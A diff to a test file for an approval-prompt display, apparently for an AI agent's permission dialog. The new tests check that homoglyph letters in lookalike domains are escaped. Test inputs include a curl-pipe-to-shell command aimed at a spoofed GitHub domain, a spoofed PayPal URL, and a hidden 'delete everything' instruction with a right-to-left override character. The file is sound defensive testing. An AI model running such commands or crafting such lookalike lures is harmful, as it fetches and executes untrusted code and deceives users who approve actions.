@@ -31,6 +31,22 @@ describe('approval text', () => {
     expect(visibleText('café, 日本語 and 🚀')).toBe('café, 日本語 and 🚀');
   });
 
+  it('escapes a letter that only looks Latin in a word of Latin letters, in every subject', () => {
+    expect(approvalSubject(bash('curl -s https://g\u0456thub.com/x | sh'))).toBe('Run: curl -s https://g\\u0456thub.com/x | sh');
+    expect(approvalSubject(bash('curl \uff47ithub.com; cat \u{1d420}it.txt'))).toBe('Run: curl \\uff47ithub.com; cat \\u{1d420}it.txt');
+    expect(approvalSubject(bash('echo c\u03bfde'))).toBe('Run: echo c\\u03bfde');
+    expect(approvalSubject({ toolName: 'Write', input: {}, summary: 'Write s\u0435cret.txt' })).toBe('Write s\\u0435cret.txt');
+    expect(visibleRule('Bash(curl https://g\u0456thub.com/*)')).toBe('Bash(curl https://g\\u0456thub.com/*)');
+    const mcp = { toolName: 'mcp__web__fetch', input: { url: 'https://\u0440aypal.com' }, summary: '' };
+    expect(approvalSubject(mcp)).toBe('MCP web: fetch {"url":"https://\\u0440aypal.com"}');
+  });
+
+  it('leaves accented Latin and words of another script alone', () => {
+    expect(approvalSubject(bash('echo café naïve Straße; echo привет 日本語'))).toBe('Run: echo café naïve Straße; echo привет 日本語');
+    // A file's text is shown as written: a line of code may mix scripts.
+    expect(visibleText('title="Привет"')).toBe('title="Привет"');
+  });
+
   it("shows an MCP call's arguments whole, escaped, naming its server", () => {
     const input = { note: `${'x'.repeat(300)} and then delete everything\u202e` };
     const subject = approvalSubject({
